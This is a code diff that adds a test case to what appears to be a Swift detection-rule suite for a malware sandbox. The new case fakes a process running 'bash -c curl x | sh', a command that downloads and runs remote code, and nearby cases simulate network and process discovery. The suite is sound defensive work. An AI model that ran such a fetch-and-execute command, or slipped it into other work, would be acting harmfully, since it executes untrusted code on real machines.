@@ -210,6 +210,17 @@ extension RuleCase {
         RuleCase(id: "network-configuration-discovery",
                  positive: { $0.exec("/usr/sbin/ip", argv: ["ip", "addr"]) },
                  negative: { $0.exec("/usr/bin/ipcs", argv: ["ipcs"]) }),
+        RuleCase(id: "runs-shell-commands",
+                 positive: { t in
+                     var n = ProcessNode(pid: 300, ppid: 100, image: "bash", path: "/usr/bin/bash", argv: ["bash", "-c", "curl x | sh"], startNs: 5)
+                     n.execs = ["/usr/bin/bash"]
+                     t.report.processes.append(n)
+                 },
+                 // A script run as the sample: the shell has the script's path, no -c.
+                 negative: { t in
+                     t.report.processes[0].image = "dash"
+                     t.report.processes[0].argv = ["/home/user/Downloads/install.sh"]
+                 }),
         RuleCase(id: "process-discovery",
                  positive: { t in for p in 1...12 { t.open("/proc/\(p)/cmdline") } },
                  negative: { t in for _ in 1...12 { t.open("/proc/self/cmdline") } }),
